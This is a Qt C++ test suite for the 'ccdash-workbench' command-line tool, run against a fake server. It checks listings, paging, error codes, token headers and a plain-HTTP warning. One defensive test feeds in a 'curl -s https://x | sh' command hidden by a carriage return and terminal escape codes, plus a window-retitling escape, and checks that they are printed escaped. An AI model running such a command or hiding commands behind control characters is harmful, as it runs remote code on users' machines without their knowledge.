// `ccdash-workbench projects|features|context`: the real binary, run with QProcess against the
// fake CCDash server (which answers from this process's event loop, so we never block on it).
#include "tests/support/fakeccdashserver.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

using workbench::testsupport::FakeCcdashServer;

class TestCcdashCli : public QObject
{
    Q_OBJECT

    struct Run
    {
        int status = -1;
        QString out;
        QString err;
    };

    std::unique_ptr<FakeCcdashServer> m_server;
    QTemporaryDir m_home;

    Run run(const QStringList &arguments, const QHash<QString, QString> &extraEnvironment = {})
    {
        QProcess process;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        for (const char *name : {"CCDASH_URL", "CCDASH_API_TOKEN", "DISPLAY", "WAYLAND_DISPLAY"})
            environment.remove(QLatin1String(name));
        // Own settings, and no session bus: the keychain lookup fails fast and the CLI goes on.
        environment.insert(QStringLiteral("HOME"), m_home.path());
        environment.insert(QStringLiteral("XDG_CONFIG_HOME"), m_home.filePath(QStringLiteral("config")));
        environment.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"), QStringLiteral("unix:path=/nonexistent/bus"));
        for (auto it = extraEnvironment.cbegin(); it != extraEnvironment.cend(); ++it)
            environment.insert(it.key(), it.value());
        process.setProcessEnvironment(environment);
        QSignalSpy finished(&process, &QProcess::finished);
        process.start(QStringLiteral(WORKBENCH_BINARY), arguments);
        Run result;
        if (!process.waitForStarted(10000))
            return result;
        if (!finished.wait(60000)) {
            process.kill();
            process.waitForFinished();
            return result;
        }
        result.status = process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -2;
        result.out = QString::fromUtf8(process.readAllStandardOutput());
        result.err = QString::fromUtf8(process.readAllStandardError());
        return result;
    }

    QStringList withUrl(QStringList arguments) const
    {
        return arguments << QStringLiteral("--ccdash-url") << m_server->baseUrl().toString();
    }

private Q_SLOTS:
    void init()
    {
        m_server = std::make_unique<FakeCcdashServer>();
        QVERIFY2(m_server->start(), qPrintable(m_server->errorString()));
    }
    void cleanup() { m_server.reset(); }

    void projectsTable()
    {
        const Run r = run(withUrl({QStringLiteral("projects")}));
        QCOMPARE(r.status, 0);
        const QStringList lines = r.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 3);
        QVERIFY(lines.at(0).contains(QStringLiteral("ID")) && lines.at(0).contains(QStringLiteral("PATH")));
        QVERIFY(lines.at(1).startsWith(QStringLiteral("*  ccdash")));
        QVERIFY(lines.at(1).endsWith(QStringLiteral("/Users/miethe/dev/ccdash")));
        QVERIFY(lines.at(2).startsWith(QStringLiteral("   skillmeat")));
        QCOMPARE(m_server->requests().size(), 1);
        QVERIFY(!m_server->requests().at(0).hasHeader("Authorization"));
        QVERIFY(!m_server->requests().at(0).hasHeader("X-CCDash-Project-Id"));
    }

    void projectsJson()
    {
        const Run r = run(withUrl({QStringLiteral("projects"), QStringLiteral("--json")}));
        QCOMPARE(r.status, 0);
        const QJsonArray projects = QJsonDocument::fromJson(r.out.toUtf8()).array();
        QCOMPARE(projects.size(), 2);
        QCOMPARE(projects.at(0).toObject().value(QStringLiteral("id")).toString(), QStringLiteral("ccdash"));
        QCOMPARE(projects.at(0).toObject().value(QStringLiteral("is_active")).toBool(), true);
        QVERIFY(!r.out.contains(QStringLiteral("apiKey"))); // SkillMeat's plaintext key is never passed on
    }

    void features_data()
    {
        QTest::addColumn<QStringList>("extra");
        QTest::addColumn<QStringList>("expectedIds");
        const QString dae = QStringLiteral("dependency-aware-execution-and-family-views-v1");
        const QString p2 = QStringLiteral("feature-execution-workbench-phase-2-local-terminal-v1");
        const QString p3 = QStringLiteral("feature-execution-workbench-phase-3-platform-connectors-v1");
        const QString p4 = QStringLiteral("feature-execution-workbench-phase-4-sdk-orchestration-v1");
        QTest::newRow("all") << QStringList{} << QStringList{dae, p2, p3, p4};
        QTest::newRow("search by tag") << QStringList{QStringLiteral("--search"), QStringLiteral("terminal")} << QStringList{p2};
        QTest::newRow("search by name") << QStringList{QStringLiteral("--search"), QStringLiteral("SDK")} << QStringList{p4};
        QTest::newRow("no match") << QStringList{QStringLiteral("--search"), QStringLiteral("kubernetes")} << QStringList{};
    }
    void features()
    {
        QFETCH(QStringList, extra);
        QFETCH(QStringList, expectedIds);

        const Run table = run(withUrl(QStringList{QStringLiteral("features")} + extra));
        QCOMPARE(table.status, 0);
        const QStringList lines = table.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), expectedIds.size() + 1);
        QVERIFY(lines.at(0).startsWith(QStringLiteral("ID")));
        for (int i = 0; i < expectedIds.size(); ++i)
            QVERIFY2(lines.at(i + 1).startsWith(expectedIds.at(i) + QLatin1Char(' ')), qPrintable(lines.at(i + 1)));
        QCOMPARE(table.err.contains(QStringLiteral("No features match")), expectedIds.isEmpty());

        const Run json = run(withUrl(QStringList{QStringLiteral("features"), QStringLiteral("--json")} + extra));
        QCOMPARE(json.status, 0);
        QStringList ids;
        for (const QJsonValue &feature : QJsonDocument::fromJson(json.out.toUtf8()).array())
            ids << feature.toObject().value(QStringLiteral("id")).toString();
        QCOMPARE(ids, expectedIds);
    }

    void featuresArePaged()
    {
        m_server->generateFeatures(450);
        const Run r = run(withUrl({QStringLiteral("features"), QStringLiteral("--json")}));
        QCOMPARE(r.status, 0);
        QCOMPARE(QJsonDocument::fromJson(r.out.toUtf8()).array().size(), 450);
        QCOMPARE(m_server->requestsTo(QStringLiteral("/api/features")).size(), 3);
    }

    void contextTable()
    {
        const Run r = run(withUrl({QStringLiteral("context"), QStringLiteral("feature-execution-workbench-phase-4-sdk-orchestration-v1")}));
        QCOMPARE(r.status, 0);
        QVERIFY(r.out.contains(QStringLiteral("Gate:           blocked_dependency")));
        QVERIFY(r.out.contains(QStringLiteral("Recommendation  R1_PLAN_FROM_PRD_OR_REPORT, confidence 0.96")));
        QVERIFY(r.out.contains(QStringLiteral("  /plan:plan-feature docs/project_plans/PRDs/enhancements/feature-execution-workbench-phase-4-sdk-orchestration-v1.md\n")));
        QVERIFY(r.out.contains(QStringLiteral("/dev:quick-feature feature-execution-workbench-phase-4-sdk-orchestration-v1")));
        QVERIFY(r.out.contains(QStringLiteral("Family:         4 of 4")));
        QVERIFY(r.out.contains(QStringLiteral("stack: Historical stack recommendations are disabled for this project")));
        QVERIFY(r.out.contains(QStringLiteral("EV-1")));
    }

    // A server's strings are shown, never obeyed by the terminal: a recommended command cannot hide part of
    // itself behind a carriage return or an escape sequence, and the name cannot retitle the window.
    void servedControlCharactersAreShownEscaped()
    {
        const QString id = QStringLiteral("feature-with-escapes");
        QJsonObject context =
            QJsonDocument::fromJson(FakeCcdashServer::fixture(QStringLiteral("execution-context-r2-start-phase-1.json"))).object();
        QJsonObject feature = context.value(QStringLiteral("feature")).toObject();
        feature.insert(QStringLiteral("id"), id);
        feature.insert(QStringLiteral("name"), QStringLiteral("Name\x1b]0;owned\x07"));
        context.insert(QStringLiteral("feature"), feature);
        QJsonObject recommendations = context.value(QStringLiteral("recommendations")).toObject();
        QJsonObject primary = recommendations.value(QStringLiteral("primary")).toObject();
        primary.insert(QStringLiteral("command"), QStringLiteral("curl -s https://x | sh\r\x1b[2Kpytest -q"));
        recommendations.insert(QStringLiteral("primary"), primary);
        context.insert(QStringLiteral("recommendations"), recommendations);
        m_server->setExecutionContext(id, context);

        const Run r = run(withUrl({QStringLiteral("context"), id}));
        QCOMPARE(r.status, 0);
        QVERIFY2(r.out.contains(QStringLiteral("  curl -s https://x | sh\\r\\e[2Kpytest -q\n")), qPrintable(r.out));
        QVERIFY2(r.out.contains(QStringLiteral("Name\\e]0;owned\\x07 (feature-with-escapes)")), qPrintable(r.out));
        QVERIFY(!r.out.contains(QChar(0x1b)));
        QVERIFY(!r.out.contains(QLatin1Char('\r')));
    }

    void contextJsonKeepsCcdashNames()
    {
        const QString id = QStringLiteral("feature-execution-workbench-phase-3-platform-connectors-v1");
        const Run r = run(withUrl({QStringLiteral("context"), id, QStringLiteral("--json")}));
        QCOMPARE(r.status, 0);
        const QJsonObject printed = QJsonDocument::fromJson(r.out.toUtf8()).object();
        const QJsonObject fixture =
            QJsonDocument::fromJson(FakeCcdashServer::fixture(QStringLiteral("execution-context-r2-start-phase-1.json"))).object();
        QCOMPARE(printed.value(QStringLiteral("recommendations")).toObject(),
                 fixture.value(QStringLiteral("recommendations")).toObject());
        QCOMPARE(printed.value(QStringLiteral("feature")).toObject().value(QStringLiteral("id")).toString(), id);
        QCOMPARE(printed.value(QStringLiteral("executionGate")).toObject().value(QStringLiteral("state")).toString(), QStringLiteral("ready"));
    }

    void contextErrors_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("message");
        QTest::newRow("unknown feature") << QStringList{QStringLiteral("context"), QStringLiteral("nope")} << 1 << "Feature 'nope' not found";
        QTest::newRow("no feature id") << QStringList{QStringLiteral("context")} << 64 << "needs exactly one FEATURE_ID";
        QTest::newRow("two feature ids") << QStringList{QStringLiteral("context"), QStringLiteral("a"), QStringLiteral("b")} << 64 << "needs exactly one FEATURE_ID";
        QTest::newRow("unknown option") << QStringList{QStringLiteral("features"), QStringLiteral("--frob")} << 64 << "Unknown option 'frob'";
        QTest::newRow("bad timeout") << QStringList{QStringLiteral("projects"), QStringLiteral("--timeout"), QStringLiteral("soon")} << 64 << "--timeout needs a number";
    }
    void contextErrors()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, status);
        QFETCH(QString, message);
        const Run r = run(withUrl(arguments));
        QCOMPARE(r.status, status);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
    }

    void serverErrorsAreReported_data()
    {
        QTest::addColumn<FakeCcdashServer::Misbehaviour>("misbehaviour");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("message");
        QTest::newRow("500") << FakeCcdashServer::Misbehaviour::InternalError << 1 << "HTTP 500: Internal Server Error";
        QTest::newRow("garbage") << FakeCcdashServer::Misbehaviour::Garbage << 65 << "not valid JSON";
        QTest::newRow("wrong shape") << FakeCcdashServer::Misbehaviour::WrongShape << 65 << "expected a JSON array of projects";
        QTest::newRow("dropped connection") << FakeCcdashServer::Misbehaviour::CloseConnection << 69 << "failed during GET /api/projects";
    }
    void serverErrorsAreReported()
    {
        QFETCH(FakeCcdashServer::Misbehaviour, misbehaviour);
        QFETCH(int, status);
        QFETCH(QString, message);
        m_server->misbehave(misbehaviour);
        const Run r = run(withUrl({QStringLiteral("projects")}));
        QCOMPARE(r.status, status);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
        QVERIFY(r.out.isEmpty());
    }

    void unreachableServerExits69_data()
    {
        QTest::addColumn<QString>("command");
        QTest::newRow("projects") << QStringLiteral("projects");
        QTest::newRow("features") << QStringLiteral("features");
        QTest::newRow("context") << QStringLiteral("context");
    }
    void unreachableServerExits69()
    {
        QFETCH(QString, command);
        const QString url = m_server->baseUrl().toString();
        m_server->stop();
        QStringList arguments{command, QStringLiteral("--ccdash-url"), url};
        if (command == QLatin1String("context"))
            arguments << QStringLiteral("some-feature");
        const Run r = run(arguments);
        QCOMPARE(r.status, 69);
        QCOMPARE(r.err, QStringLiteral("Cannot reach CCDash at %1: connection refused. Is CCDash running?\n").arg(url));
        QVERIFY(r.out.isEmpty());
    }

    void timeoutExits69()
    {
        m_server->setSlowDelay(10000);
        m_server->misbehave(FakeCcdashServer::Misbehaviour::Slow);
        const Run r = run(withUrl({QStringLiteral("projects"), QStringLiteral("--timeout"), QStringLiteral("0.5")}));
        QCOMPARE(r.status, 69);
        QVERIFY2(r.err.contains(QStringLiteral("did not answer GET /api/projects within 0.5 seconds")), qPrintable(r.err));
    }

    void urlFromEnvironmentAndPrecedence()
    {
        // CCDASH_URL alone is used ...
        const Run fromEnv = run({QStringLiteral("projects")}, {{QStringLiteral("CCDASH_URL"), m_server->baseUrl().toString()}});
        QCOMPARE(fromEnv.status, 0);
        QCOMPARE(m_server->requests().size(), 1);
        // ... and --ccdash-url wins over it.
        const Run both = run(withUrl({QStringLiteral("projects")}), {{QStringLiteral("CCDASH_URL"), QStringLiteral("http://127.0.0.1:9")}});
        QCOMPARE(both.status, 0);
        QCOMPARE(m_server->requests().size(), 2);
        // A malformed URL is a usage error, not a fallback.
        const Run bad = run({QStringLiteral("projects"), QStringLiteral("--ccdash-url"), QStringLiteral("ftp://x")});
        QCOMPARE(bad.status, 64);
        QVERIFY(bad.err.contains(QStringLiteral("Invalid CCDash URL")));
    }

    void tokenAndProjectHeaders()
    {
        const QString token = QStringLiteral("cli-token-5d1e0a7c");
        m_server->setRequiredToken(token);
        const Run r = run(withUrl({QStringLiteral("features"), QStringLiteral("--project"), QStringLiteral("skillmeat")}),
                          {{QStringLiteral("CCDASH_API_TOKEN"), token}});
        QCOMPARE(r.status, 0);
        QVERIFY(!r.err.contains(QStringLiteral("Warning"))); // loopback: no plain-HTTP warning
        QCOMPARE(m_server->requests().at(0).header("Authorization"), "Bearer " + token.toUtf8());
        QCOMPARE(m_server->requests().at(0).header("X-CCDash-Project-Id"), QByteArray("skillmeat"));
        QVERIFY(!r.out.contains(token) && !r.err.contains(token));

        const Run missing = run(withUrl({QStringLiteral("projects")}));
        QCOMPARE(missing.status, 1);
        QVERIFY(missing.err.contains(QStringLiteral("Bearer token required")));
    }

    void plainHttpTokenWarning()
    {
        const QString token = QStringLiteral("cli-token-5d1e0a7c");
        const Run r = run({QStringLiteral("projects"), QStringLiteral("--ccdash-url"), QStringLiteral("http://ccdash-workbench-test.invalid:8000"),
                           QStringLiteral("--timeout"), QStringLiteral("5")},
                          {{QStringLiteral("CCDASH_API_TOKEN"), token}});
        QCOMPARE(r.status, 69);
        QVERIFY2(r.err.startsWith(QStringLiteral("Warning: sending the CCDash API token over plain HTTP to ccdash-workbench-test.invalid")),
                 qPrintable(r.err));
        QVERIFY(!r.err.contains(token));
    }

    void helpListsCommands()
    {
        const Run r = run({QStringLiteral("--help")});
        QCOMPARE(r.status, 0);
        for (const char *command : {"projects", "features", "context"})
            QVERIFY(r.out.contains(QLatin1String("  ") + QLatin1String(command)));
        const Run sub = run({QStringLiteral("features"), QStringLiteral("--help")});
        QCOMPARE(sub.status, 0);
        QVERIFY(sub.out.contains(QStringLiteral("--search <TEXT>")));
        QVERIFY(sub.out.contains(QStringLiteral("--ccdash-url <URL>")));
        QVERIFY(sub.out.contains(QStringLiteral("--json")));
    }
};

QTEST_GUILESS_MAIN(TestCcdashCli)
#include "tst_ccdashcli.moc"
